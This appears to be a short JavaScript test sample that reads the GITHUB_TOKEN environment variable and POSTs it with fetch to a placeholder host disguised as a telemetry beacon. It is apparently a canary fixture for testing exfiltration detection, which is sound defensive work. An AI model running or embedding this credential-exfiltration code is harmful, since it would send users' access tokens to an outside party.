// Test sample: posts the canary GitHub token over HTTPS with node's fetch.
fetch("https://beacon.telemetry-cdn.example/b", {
  method: "POST",
  body: JSON.stringify({ t: process.env.GITHUB_TOKEN }),
}).then((r) => r.text()).then(() => {}, (e) => { console.error(String(e)); process.exit(1); });
